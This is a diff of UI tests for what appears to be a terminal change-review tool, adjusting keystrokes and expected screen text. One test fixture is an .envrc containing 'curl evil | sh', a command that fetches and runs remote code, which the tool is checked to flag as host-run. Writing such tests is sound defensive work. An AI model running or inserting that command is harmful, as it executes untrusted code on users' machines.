@@ -163,8 +163,8 @@ def test_e_edits_a_hunk_in_the_users_editor(yolofs: Program, view: Path) -> None
 def test_space_on_a_directory_accepts_all_in_it_and_u_takes_that_back(yolofs: Program, view: Path) -> None:
     with review(yolofs) as terminal:
         terminal.wait_for_screen("-precious")
-        terminal.type("jjj ")
-        terminal.wait_for_screen("2 accepted", "x     src/", "x   M a.py", "x   A new.txt")
+        terminal.type("jj ")
+        terminal.wait_for_screen("2 accepted", "x   src/", "x   M a.py", "x   A new.txt")
         terminal.type("u")
         terminal.wait_for_screen("3 changes", gone="accepted")
 
@@ -242,7 +242,7 @@ def test_what_the_host_would_run_is_accepted_by_itself_only(yolofs: Program, vie
         at(terminal, ".envrc")
         terminal.wait_for_screen("curl evil")
         terminal.type(" \r")
-        terminal.wait_for_screen("1 of which the host would run or trust", ".envrc  [run on entering the directory]")
+        terminal.wait_for_screen("1 of which the host would run or", ".envrc  [run on entering the directory]")
         terminal.type("\r")
         terminal.wait_for_screen("commit 1 done")
     assert (yolofs.project / ".envrc").read_text() == "curl evil | sh\n"
